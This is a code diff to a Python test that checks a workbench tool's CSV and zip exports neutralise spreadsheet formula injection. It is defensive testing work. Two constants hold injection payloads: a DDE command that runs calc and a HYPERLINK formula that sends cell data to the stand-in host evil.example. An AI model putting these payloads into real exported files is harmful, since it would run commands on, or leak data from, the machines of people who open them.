@@ -15,6 +15,7 @@ from PIL import Image
 from workbench.csvsafe import FORMULA_START
 from workbench.export import export_study
 from workbench.ui.results import csv_bundle
+from workbench.ui.results_tables import tables
 
 EVIL_SYSTEM = "=cmd|' /C calc'!A0"
 EVIL_COMMENT = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
@@ -61,7 +62,7 @@ def test_study_export_csv_is_neutralised_and_other_formats_raw(workbench, tmp_pa
 
 def test_results_zip_is_neutralised(workbench) -> None:
     stats = workbench.stats(_study(workbench))
-    with zipfile.ZipFile(csv_bundle(stats, "csv")) as zf:
+    with zipfile.ZipFile(csv_bundle(stats, tables(stats, "preference"), "csv")) as zf:
         cells = [c for name in zf.namelist() for c in _cells(zf.read(name).decode("utf-8"))]
     assert _dangerous(cells) == [] and "'" + EVIL_SYSTEM in cells
 
